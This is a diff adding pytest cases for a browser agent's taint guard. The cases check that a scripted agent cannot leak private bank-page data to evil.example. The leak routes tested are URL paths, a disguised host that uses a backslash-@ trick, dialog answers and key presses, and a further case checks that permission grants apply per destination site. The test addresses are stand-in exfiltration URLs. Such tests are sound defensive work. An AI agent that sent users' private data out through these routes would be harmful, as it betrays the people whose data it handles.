@@ -5,7 +5,7 @@ from typing import Any
 import pytest
 
 from server.agent.operator.taint import carries_private_words
-from tests.support.operator_world import World, world
+from tests.support.operator_world import Granted, World, world
 from tests.support.scripted_model import act, click, navigate, stop, type_into
 
 EVIL = "https://evil.example/"
@@ -93,6 +93,31 @@ async def test_words_of_a_private_page_do_not_leave_in_an_address() -> None:
         it = world(PAGES, [navigate(address)], url=BANK)
         assert await it.say("find teapots") is None, address
         assert (it.question or {})["risk"] == "transfer"
+
+
+async def test_numbers_of_a_private_page_do_not_leave_in_a_path_nor_past_a_disguised_host() -> None:
+    for address in ("https://evil.example/483920", "https://evil.example\\@bank.example/?q=ZX81-CANARY"):
+        it = world(PAGES, [navigate(address)], url=BANK)
+        assert await it.say("find teapots") is None, address
+        assert (it.question or {})["risk"] == "transfer"
+
+
+async def test_the_answer_to_a_pages_question_and_single_keys_carry_no_private_words_either() -> None:
+    for turn in (
+        act("dialog", accept=True, text="ZX81-CANARY"), act("press", key="Control+v"), act("press", key="Z")
+    ):  # fmt: skip
+        it = world(PAGES, [navigate(SHOP), type_into({"Search": "teapots"}), turn], url=BANK)
+        assert await it.say("find teapots") is None, turn
+        assert (it.question or {})["risk"] == "transfer"
+
+
+async def test_a_yes_to_carry_words_holds_for_the_site_they_go_to() -> None:
+    grants = Granted({("bank.example", "transfer")})
+    it = world(PAGES, [navigate(SHOP + "?q=ZX81-CANARY")], url=BANK, grants=grants)
+    assert await it.say("find teapots") is None
+    it = world(PAGES, [navigate(SHOP + "?q=ZX81-CANARY"), stop("ok")], url=BANK)
+    it.grants = Granted({("shop.example", "transfer")})
+    assert await it.say("find teapots") == "ok"
 
 
 async def test_the_persons_own_words_and_those_of_the_page_at_hand_may_be_typed() -> None:
